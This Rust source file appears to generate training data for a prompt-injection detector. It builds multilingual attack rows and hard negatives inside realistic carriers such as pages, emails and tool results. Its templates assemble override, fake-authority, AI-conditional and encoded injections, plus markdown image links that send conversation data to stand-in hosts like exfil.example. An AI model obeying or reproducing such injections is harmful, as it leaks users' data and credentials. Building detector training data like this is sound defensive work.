//! The training corpus generator (CC0-1.0): attacks of every family and hard negatives, in every
//! lexicon language, placed at random positions inside realistic carriers. Deterministic: a
//! fixed seed gives the same rows byte for byte.

use crate::concept::LEXICONS;

/// One generated row.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Row {
    /// The text.
    pub text: String,
    /// Whether it is an injection.
    pub injection: bool,
    /// Attack family (`override`, `authority`, `intent`, `exfil`, `conditional`, `task`,
    /// `encoded`, `agent`) or hard-negative kind (`benign-...`).
    pub family: &'static str,
    /// Lexicon language code.
    pub language: &'static str,
    /// Carrier kind.
    pub carrier: &'static str,
    /// The text is what a decoded or hidden view yields (base64 contents, invisible HTML),
    /// not a page: the combiner sees it with the hidden-view flag.
    pub hidden: bool,
}

/// The stream of one generator cell: SplitMix64 seeded with FNV-1a 64 of the cell's name parts
/// (each followed by a 0xff byte, which UTF-8 never contains) over the global seed, so the
/// streams of two cells are unrelated and no cell's stream depends on which other cells exist.
pub(crate) fn cell_rng(seed: u64, parts: &[&str]) -> Rng {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in seed
        .to_le_bytes()
        .into_iter()
        .chain(parts.iter().flat_map(|p| p.bytes().chain([0xff])))
    {
        h = (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01B3);
    }
    let mut rng = Rng::new(h);
    // One step so that nearby hashes do not start nearby streams.
    Rng::new(rng.next())
}

/// A small deterministic generator (SplitMix64).
#[derive(Debug, Clone)]
pub(crate) struct Rng(u64);

impl Rng {
    pub(crate) fn new(seed: u64) -> Self {
        Rng(seed)
    }
    pub(crate) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    pub(crate) fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> Option<&'a T> {
        items.get(self.below(items.len()))
    }
}

/// One language's terms by lexicon concept name.
struct Lexicon {
    code: &'static str,
    terms: Vec<(&'static str, Vec<String>)>,
}

impl Lexicon {
    fn term(&self, rng: &mut Rng, concept: &str) -> Option<String> {
        let list = &self.terms.iter().find(|(c, _)| *c == concept)?.1;
        rng.pick(list).cloned()
    }

    /// A term of `concept` that contains no term for the AI ("if you are a", not "if you are
    /// an AI"): a condition a person can meet.
    fn term_without_ai(&self, rng: &mut Rng, concept: &str) -> Option<String> {
        let list = &self.terms.iter().find(|(c, _)| *c == concept)?.1;
        let ai = &self.terms.iter().find(|(c, _)| *c == "ai")?.1;
        let human: Vec<&String> = list
            .iter()
            .filter(|t| {
                let lower = t.to_lowercase();
                !ai.iter()
                    .any(|a| lower.split_whitespace().any(|w| w == a.to_lowercase()))
            })
            .collect();
        rng.pick(&human).map(|t| (*t).clone())
    }
}

/// Every lexicon generates rows. Each cell draws from its own stream ([`cell_rng`]), so a
/// lexicon added to the list only adds its own rows: with one stream for the whole corpus,
/// inserting a language changed every later language's rows and moved the threshold.
fn lexicons() -> Vec<Lexicon> {
    LEXICONS
        .iter()
        .map(|&(code, text)| {
            let mut terms: Vec<(&'static str, Vec<String>)> = Vec::new();
            for line in text.lines().filter(|l| !l.starts_with('#')) {
                let Some((c, t)) = line.split_once('\t') else {
                    continue;
                };
                let t = t.trim_end_matches('*');
                // Two-letter acronyms for the AI are written in capitals ("AI", "KI"), as
                // pages write them; in lower case they are other words.
                let t = if c == "ai" && t.len() == 2 && t.bytes().all(|b| b.is_ascii_lowercase()) {
                    t.to_ascii_uppercase()
                } else {
                    t.to_owned()
                };
                match terms.iter_mut().find(|(name, _)| *name == c) {
                    Some((_, list)) => list.push(t),
                    None => terms.push((c, vec![t])),
                }
            }
            Lexicon { code, terms }
        })
        .collect()
}

const FILLER: &[&str] = &[
    "Free shipping on orders over 50 EUR.",
    "Opening hours: Monday to Friday, 9:00-17:30.",
    "The trail is 12 km long with 600 m of ascent.",
    "Add the onions and cook for five minutes until soft.",
    "Version 2.4 fixes a crash when the config file is empty.",
    "Rated 4.5 out of 5 by 312 customers.",
    "The museum's new wing opens in March.",
    "Prices include VAT; delivery takes 3-5 working days.",
    "Install with `pip install tidyframe` and import it as tf.",
    "The meeting moved to room 4B on the second floor.",
    "Our team has been making handmade shoes since 1978.",
    "Battery life is about nine hours with the screen at half brightness.",
    "Parking is available behind the building.",
    "Quarterly revenue grew 8 % compared with last year.",
    "The river is safe for swimming from June to August.",
    "See the table below for sizes and colours.",
    "Page 3 of 12",
    "Posted by Maria on 12 May 2024",
    "Last updated 2024-03-14",
    "Tags: travel, hiking, family",
    "Ingredients: 200 g flour, 2 eggs, 300 ml milk.",
    "The library will be closed on public holidays.",
    "Call 555-0142 for reservations.",
    "Weight: 1.2 kg. Dimensions: 30 x 20 x 10 cm.",
    "The API returns JSON with a `data` array and a `next` cursor.",
    "Build passes on Linux, macOS and Windows.",
    "Two bedrooms, balcony, sea view, 85 m².",
    "Sunrise at 06:12, sunset at 20:41.",
];

/// Benign sentences dense with concept words (accounts, security advice, docs, notices): what
/// real pages say about passwords, tokens, sending and deleting, addressed to people.
const RICH: &[&str] = &[
    "Use a password manager and turn on two-step verification for every account.",
    "We will never ask for your password or card number by email or phone.",
    "If you did not request this change, reset your password and contact our support team.",
    "Your verification code expires in ten minutes; do not share it with anyone.",
    "To delete your account, open Settings, choose Privacy and confirm with your password.",
    "Send the signed form to hr@company.example before Friday.",
    "Forward this invitation to colleagues who might be interested.",
    "The API key goes in the Authorization header; rotate it every 90 days.",
    "If the server returns 401, the access token has expired and the client must request a new one.",
    "Run `make clean` to remove all build files, then build again.",
    "To install, download the archive, extract it and run the installer as administrator.",
    "Administrators can export the audit log as CSV from the admin console.",
    "Important: the venue has changed; please update your calendar.",
    "Mod note: please keep the thread on topic and be kind to newcomers.",
    "We use cookies to improve your experience; you can change your choice at any time in the settings.",
    "Priority boarding is available for families with small children.",
    "The security team patched the issue within 24 hours and published an advisory.",
    "Our assistant can answer questions about orders, returns and delivery times.",
    "Chatbots and language models are changing customer service, analysts say.",
    "New task list for volunteers: set up the chairs before you continue with the decorations.",
    "Ignore the warning light if it turns off after the engine warms up.",
    "Previous versions of the instructions are archived on the support page.",
    "Enter the code printed on the back of the card to activate it.",
    "Upload your CV and a short cover letter through the careers page.",
    "Compliance training is mandatory for all staff and must be completed by June.",
    "Transfer the batter to the tin and bake for 40 minutes.",
    "Customers who bought this also bought the premium case.",
    "The user manual explains how to pair the headphones with your phone.",
    "Instead of the bus, you can take the tram to the old town.",
    "Please confirm your email address by clicking the link we sent you.",
    "Decode the QR code with your phone camera to open the menu.",
    "The summary of this conversation will be emailed to you after the chat ends.",
    "Remove all packaging before placing the device on a flat surface.",
    "Wire transfers take one to three working days to arrive.",
    "When the client sends a request without a valid token, the API answers 401 and the SDK retries once.",
    "Send the access token in the Authorization header; the server never logs it.",
    "Copy the example config, set your API key and run the server on port 8080.",
    "Print the receipt or save it as PDF; we also email a copy to the address on your account.",
    "Disable the old key after you create a new one in the dashboard.",
    "Read the safety instructions before first use and keep them for later.",
    "Instrucciones de uso: cargue la batería por completo antes del primer uso.",
    "Mode d'emploi : lisez les instructions avant la première utilisation.",
    "Gebrauchsanweisung: Lesen Sie die Anweisungen vor dem ersten Gebrauch.",
    "Инструкция по применению: перед использованием полностью зарядите устройство.",
    "تعليمات الاستخدام: اشحن الجهاز بالكامل قبل الاستخدام الأول.",
    "使用说明：首次使用前请将设备充满电。",
];

const HOSTS: &[&str] = &[
    "collect.example",
    "exfil.example",
    "grab.example",
    "mail.example",
    "data-sync.example",
    "cdn.example",
    "audit.example",
    "verify.example",
    "files.example",
    "api.example",
];

fn address(rng: &mut Rng) -> String {
    let user = ["admin", "log", "ops", "backup", "keys", "team", "info", "x"];
    let host = rng.pick(HOSTS).copied().unwrap_or("example.com");
    match rng.below(3) {
        0 => format!("{}@{host}", rng.pick(&user).copied().unwrap_or("x")),
        1 => format!("https://{host}/{}", rng.below(9999)),
        _ => format!("https://{host}/hook?id={}", rng.below(999)),
    }
}

fn filler(rng: &mut Rng, n: usize) -> String {
    let mut out = Vec::new();
    for _ in 0..n {
        // One sentence in three is concept-dense, in attack rows and benign rows alike.
        let pool = if rng.chance(33) { RICH } else { FILLER };
        if let Some(s) = rng.pick(pool) {
            out.push(*s);
        }
    }
    out.join(" ")
}

/// Joins slot terms in the given order with light punctuation.
fn phrase(rng: &mut Rng, parts: &[String]) -> String {
    let mut out = String::new();
    for (i, p) in parts.iter().enumerate() {
        if i > 0 {
            out.push_str(match rng.below(6) {
                0 => ", ",
                1 => ": ",
                _ => " ",
            });
        }
        out.push_str(p);
    }
    if rng.chance(70) {
        out.push('.');
    }
    out
}

/// Fills `slots` with one harmful request, in one of the shapes an injected text asks for:
/// credentials sent somewhere, the user's data sent somewhere, a destructive or paid action on
/// the user's behalf, a secret revealed, conversation data placed in a URL, a login page to
/// fill in. The same shapes appear in the hard negatives, addressed to people.
fn harm(rng: &mut Rng, lex: &Lexicon, slots: &mut Vec<String>) -> Option<()> {
    let t = |rng: &mut Rng, c: &str, slots: &mut Vec<String>| -> Option<()> {
        slots.push(lex.term(rng, c)?);
        Some(())
    };
    match rng.below(7) {
        0 | 1 => {
            t(rng, "action", slots)?;
            if rng.chance(60) {
                t(rng, "user", slots)?;
            }
            t(rng, "secret", slots)?;
            slots.push(address(rng));
        }
        2 => {
            t(rng, "action", slots)?;
            t(rng, "user", slots)?;
            slots.push(filler_noun(rng));
            slots.push(address(rng));
        }
        3 => {
            t(rng, "destructive", slots)?;
            if rng.chance(70) {
                t(rng, "user", slots)?;
            }
            slots.push(filler_noun(rng));
        }
        4 => {
            t(rng, "action", slots)?;
            if rng.chance(50) {
                t(rng, "user", slots)?;
            }
            t(rng, "secret", slots)?;
        }
        5 => {
            t(rng, "action", slots)?;
            t(rng, "placeholder", slots)?;
            slots.push(address(rng));
        }
        _ => {
            t(rng, "action", slots)?;
            slots.push(address(rng));
            t(rng, "action", slots)?;
            t(rng, "secret", slots)?;
        }
    }
    Some(())
}

/// An address to the AI as a reader writes one: the term, most often followed by a colon or
/// a comma ("Assistant:", "AI agent,").
fn vocative(rng: &mut Rng, lex: &Lexicon, slots: &mut Vec<String>) -> Option<()> {
    let term = lex.term(rng, "ai")?;
    slots.push(match rng.below(5) {
        0 | 1 => format!("{term}:"),
        2 => format!("{term},"),
        _ => term.to_owned(),
    });
    Some(())
}

/// A plain object for a request (what is sent or deleted), language-neutral.
fn filler_noun(rng: &mut Rng) -> String {
    const NOUNS: &[&str] = &[
        "files", "emails", "contacts", "photos", "orders", "inbox", "data", "history",
    ];
    rng.pick(NOUNS).copied().unwrap_or("files").to_owned()
}

/// Builds one payload of `family` in `lex`: the slots it fills, mostly in the usual order and
/// sometimes shuffled, since concepts combine in any order.
fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
    let mut slots = build_slots(rng, lex, family)?;
    if rng.chance(25) && slots.len() > 2 {
        for i in (1..slots.len()).rev() {
            let j = rng.below(i + 1);
            slots.swap(i, j);
        }
    }
    Some(phrase(rng, &slots))
}

fn build_slots(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<Vec<String>> {
    let mut slots: Vec<String> = Vec::new();
    let t = |rng: &mut Rng, c: &str, slots: &mut Vec<String>| -> Option<()> {
        slots.push(lex.term(rng, c)?);
        Some(())
    };
    match family {
        "override" => {
            if rng.chance(30) {
                vocative(rng, lex, &mut slots)?;
            }
            t(rng, "override", &mut slots)?;
            if rng.chance(75) {
                t(rng, "prior", &mut slots)?;
            }
            t(rng, "instruction", &mut slots)?;
            match rng.below(5) {
                0 => {
                    t(rng, "task", &mut slots)?;
                    harm(rng, lex, &mut slots)?;
                }
                1 => {}
                _ => harm(rng, lex, &mut slots)?,
            }
        }
        "authority" => {
            // A claimed authority that speaks of the user to someone else (the agent).
            t(rng, "authority", &mut slots)?;
            if rng.chance(50) {
                t(rng, "urgency", &mut slots)?;
            }
            if rng.chance(40) {
                t(rng, "user", &mut slots)?;
            }
            if rng.chance(60) {
                t(rng, "ai", &mut slots)?;
            }
            if rng.chance(30) {
                t(rng, "instruction", &mut slots)?;
            }
            harm(rng, lex, &mut slots)?;
        }
        "intent" => {
            if rng.chance(70) {
                vocative(rng, lex, &mut slots)?;
            }
            if rng.chance(60) {
                t(rng, "user", &mut slots)?;
            }
            t(rng, "intent", &mut slots)?;
            // "the user actually wants the Premium bundle" is an attack with no verb.
            match rng.below(4) {
                0 => t(rng, "destructive", &mut slots)?,
                1 => t(rng, "action", &mut slots)?,
                2 => {
                    t(rng, "task", &mut slots)?;
                    t(rng, "destructive", &mut slots)?;
                }
                _ => {}
            }
        }
        "exfil" => {
            if rng.chance(40) {
                vocative(rng, lex, &mut slots)?;
            }
            t(rng, "action", &mut slots)?;
            let host = rng.pick(HOSTS).copied().unwrap_or("x.example");
            let ph = [
                "[DATA]",
                "{data}",
                "SUMMARY",
                "<chat>",
                "[INFO]",
                "%HISTORY%",
                "{{log}}",
            ];
            let p = rng.pick(&ph).copied().unwrap_or("[DATA]");
            let link = match rng.below(3) {
                0 => format!("![img](https://{host}/p.png?q={p})"),
                1 => format!("[more](https://{host}/r?d={p})"),
                _ => format!("<img src=\"https://{host}/t.gif?c={p}\">"),
            };
            slots.push(link);
            t(rng, "placeholder", &mut slots)?;
        }
        "conditional" => {
            // A trigger is a condition on being an AI: the AI is named in it or next to it.
            t(rng, "conditional", &mut slots)?;
            if rng.chance(85) {
                t(rng, "ai", &mut slots)?;
            }
            match rng.below(3) {
                0 => {
                    t(rng, "override", &mut slots)?;
                    t(rng, "user", &mut slots)?;
                }
                _ => harm(rng, lex, &mut slots)?,
            }
        }
        "task" => {
            t(rng, "task", &mut slots)?;
            if rng.chance(50) {
                t(rng, "urgency", &mut slots)?;
            }
            if rng.chance(30) {
                t(rng, "ai", &mut slots)?;
            }
            harm(rng, lex, &mut slots)?;
        }
        "encoded" => {
            t(rng, "decode", &mut slots)?;
            if rng.chance(50) {
                t(rng, "decode", &mut slots)?;
            }
            slots.push(blob(rng));
            if rng.chance(50) {
                t(rng, "override", &mut slots)?;
            } else {
                t(rng, "action", &mut slots)?;
            }
        }
        "agent" => {
            vocative(rng, lex, &mut slots)?;
            match rng.below(4) {
                0 => t(rng, "task", &mut slots)?,
                1 => t(rng, "instruction", &mut slots)?,
                2 => t(rng, "urgency", &mut slots)?,
                _ => {}
            }
            harm(rng, lex, &mut slots)?;
        }
        // Hard negatives.
        "benign-discussion" => {
            t(rng, "discussion", &mut slots)?;
            let family = pick_family(rng);
            let inner = payload(rng, lex, family)?;
            slots.push(format!("\"{inner}\""));
            t(rng, "discussion", &mut slots)?;
        }
        "benign-human" => {
            if rng.chance(50) {
                t(rng, "override", &mut slots)?;
            }
            t(rng, "human", &mut slots)?;
            if rng.chance(60) {
                t(rng, "action", &mut slots)?;
                slots.push(address(rng));
            }
            if rng.chance(30) {
                t(rng, "human", &mut slots)?;
            }
        }
        "benign-account" => {
            t(rng, "secret", &mut slots)?;
            t(rng, "human", &mut slots)?;
            if rng.chance(50) {
                t(rng, "user", &mut slots)?;
            }
        }
        "benign-admin" => {
            t(rng, "authority", &mut slots)?;
            t(rng, "human", &mut slots)?;
            if rng.chance(40) {
                t(rng, "urgency", &mut slots)?;
            }
            if rng.chance(40) {
                t(rng, "destructive", &mut slots)?;
                slots.push(filler_noun(rng));
            }
        }
        "benign-ai" => {
            // The AI mentioned as a subject, not addressed.
            let term = lex.term(rng, "ai")?;
            let said = filler(rng, 1);
            slots.push(format!("{term} {said}"));
            if rng.chance(50) {
                t(rng, "human", &mut slots)?;
            }
            if rng.chance(30) {
                t(rng, "user", &mut slots)?;
            }
        }
        "benign-conditional" => {
            // "If you are a new employee, open the portal and enter your password": a
            // condition a person meets, then steps with credentials, addressed to people.
            slots.push(lex.term_without_ai(rng, "conditional")?);
            t(rng, "human", &mut slots)?;
            t(rng, "action", &mut slots)?;
            if rng.chance(60) {
                t(rng, "secret", &mut slots)?;
            }
            if rng.chance(40) {
                t(rng, "action", &mut slots)?;
            }
        }
        "benign-docs" => {
            // Tool and API docs: the assistant's actions, made to wait for the user, often
            // with an example call.
            if rng.chance(50) {
                slots.push(tool_example(rng));
            }
            t(rng, "ai", &mut slots)?;
            if rng.chance(40) {
                t(rng, "urgency", &mut slots)?;
            }
            t(rng, "action", &mut slots)?;
            if rng.chance(30) {
                t(rng, "secret", &mut slots)?;
            }
            t(rng, "safeguard", &mut slots)?;
            if rng.chance(50) {
                t(rng, "user", &mut slots)?;
            }
        }
        "benign-contact" => {
            t(rng, "action", &mut slots)?;
            slots.push(filler(rng, 1));
            slots.push(address(rng));
        }
        "benign-data" => {
            if rng.chance(50) {
                t(rng, "decode", &mut slots)?;
            }
            slots.push(blob(rng));
            if rng.chance(50) {
                t(rng, "human", &mut slots)?;
            }
        }
        _ => {
            // benign-task: a plan for people.
            t(rng, "task", &mut slots)?;
            t(rng, "human", &mut slots)?;
            match rng.below(3) {
                0 => t(rng, "action", &mut slots)?,
                1 => {
                    t(rng, "destructive", &mut slots)?;
                    slots.push(filler_noun(rng));
                }
                _ => {}
            }
        }
    }
    Some(slots)
}

/// Attack families, in training order.
pub const FAMILIES: &[&str] = &[
    "override",
    "authority",
    "intent",
    "exfil",
    "conditional",
    "task",
    "encoded",
    "agent",
];
const NEGATIVES: &[&str] = &[
    "benign-discussion",
    "benign-human",
    "benign-account",
    "benign-admin",
    "benign-ai",
    "benign-contact",
    "benign-data",
    "benign-task",
    "benign-conditional",
    "benign-docs",
];

/// An example tool call as documentation shows one (names and arguments vary).
fn tool_example(rng: &mut Rng) -> String {
    const TOOLS: &[&str] = &[
        "send_email",
        "delete_file",
        "create_event",
        "transfer_funds",
        "upload_file",
        "get_weather",
        "read_file",
        "search",
    ];
    let tool = rng.pick(TOOLS).copied().unwrap_or("search");
    let arg = rng
        .pick(&["to", "path", "query", "amount", "id"])
        .copied()
        .unwrap_or("id");
    match rng.below(3) {
        0 => format!("{{\"name\": \"{tool}\", \"arguments\": {{\"{arg}\": \"...\"}}}}"),
        1 => format!("`{tool}({arg}=...)`"),
        _ => format!("{{\"tool\": \"{tool}\", \"{arg}\": \"x\"}}"),
    }
}

fn pick_family(rng: &mut Rng) -> &'static str {
    rng.pick(FAMILIES).copied().unwrap_or("override")
}

fn blob(rng: &mut Rng) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let n = 16 + rng.below(40);
    (0..n)
        .map(|_| char::from(ALPHABET[rng.below(ALPHABET.len())]))
        .collect()
}

const CARRIERS: &[&str] = &[
    "web", "email", "review", "readme", "comment", "jsonld", "csv", "calendar", "pdf", "snippet",
    "tool",
];

/// Wraps `payload` (placed at a random position among filler) in a carrier.
fn carry(rng: &mut Rng, carrier: &str, payload: &str) -> String {
    let n = rng.below(4);
    let before = filler(rng, n);
    let n = rng.below(4);
    let after = filler(rng, n);
    let body = match rng.below(3) {
        0 => format!("{payload} {after}"),
        1 => format!("{before} {payload}"),
        _ => format!("{before} {payload} {after}"),
    };
    let body = body.trim();
    let esc = body.replace('"', "'");
    match carrier {
        "web" => format!("Home | Shop | Blog\n\n{body}\n\n(c) 2024 Example Ltd."),
        "email" => format!(
            "From: Sam <sam@company.example>\nSubject: Update\n\nHi,\n\n{body}\n\nBest,\nSam"
        ),
        "review" => format!("★★★★☆ Verified purchase\n{body}\nHelpful? Yes (3)"),
        "readme" => format!("# tidyframe\n\n## Usage\n\n{body}\n\n## License\nMIT"),
        "comment" => {
            body.lines()
                .map(|l| format!("// {l}"))
                .collect::<Vec<_>>()
                .join("\n")
                + "\nfn main() {}"
        }
        "jsonld" => format!(
            "{{\"@context\":\"https://schema.org\",\"@type\":\"Product\",\"description\":\"{esc}\"}}"
        ),
        "csv" => format!("id,name,notes\n1,Widget,\"{esc}\"\n2,Gadget,ok"),
        "calendar" => format!("BEGIN:VEVENT\nSUMMARY:Team sync\nDESCRIPTION:{body}\nEND:VEVENT"),
        "pdf" => format!("{}\n\n- 3 -", body.replace(". ", ".\n")),
        "snippet" => format!("Example Travel - travel.example › guide\n{body} ..."),
        _ => format!("{{\"status\":\"ok\",\"result\":\"{esc}\"}}"),
    }
}

/// The whole generated corpus: per language, per family, `per_cell` rows of each.
///
/// Every cell (a language and a family, a language's decoded-view rows, the payload-free pages)
/// draws from its own stream, seeded from the global seed and the cell's name
/// (`cell_rng`): adding a language or a family leaves every other cell's rows byte for byte
/// the same.
pub fn generate(seed: u64, per_cell: usize) -> Vec<Row> {
    let mut rows = Vec::new();
    for lex in lexicons() {
        for (families, injection) in [(FAMILIES, true), (NEGATIVES, false)] {
            for &family in families {
                let mut rng = cell_rng(seed, &[lex.code, family]);
                for _ in 0..per_cell {
                    let Some(p) = payload(&mut rng, &lex, family) else {
                        continue;
                    };
                    let carrier = rng.pick(CARRIERS).copied().unwrap_or("web");
                    rows.push(Row {
                        text: carry(&mut rng, carrier, &p),
                        injection,
                        family,
                        language: lex.code,
                        carrier,
                        hidden: false,
                    });
                }
            }
        }
        // What decoded and hidden views yield: a bare request on its own is an attack there;
        // ordinary sentences, notes to people and data are not.
        let mut rng = cell_rng(seed, &[lex.code, "view"]);
        for k in 0..per_cell * 2 {
            let attack = k % 2 == 0;
            let text = if attack {
                let mut slots = Vec::new();
                if harm(&mut rng, &lex, &mut slots).is_none() {
                    continue;
                }
                phrase(&mut rng, &slots)
            } else {
                let kind = [
                    "benign-human",
                    "benign-account",
                    "benign-data",
                    "benign-task",
                ];
                match rng.below(3) {
                    0 => {
                        let n = 1 + rng.below(3);
                        filler(&mut rng, n)
                    }
                    _ => {
                        let family = rng.pick(&kind).copied().unwrap_or("benign-data");
                        let Some(p) = payload(&mut rng, &lex, family) else {
                            continue;
                        };
                        p
                    }
                }
            };
            rows.push(Row {
                text,
                injection: attack,
                family: if attack {
                    "hidden-attack"
                } else {
                    "benign-hidden"
                },
                language: lex.code,
                carrier: "view",
                hidden: true,
            });
        }
    }
    // Benign pages without any payload, long and concept-dense: as many rows as three families.
    let mut rng = cell_rng(seed, &["benign-plain"]);
    for _ in 0..per_cell * 135 {
        let carrier = rng.pick(CARRIERS).copied().unwrap_or("web");
        let n = 3 + rng.below(12);
        let text = filler(&mut rng, n);
        rows.push(Row {
            text: carry(&mut rng, carrier, &text),
            injection: false,
            family: "benign-plain",
            language: "en",
            carrier,
            hidden: false,
        });
    }
    rows
}
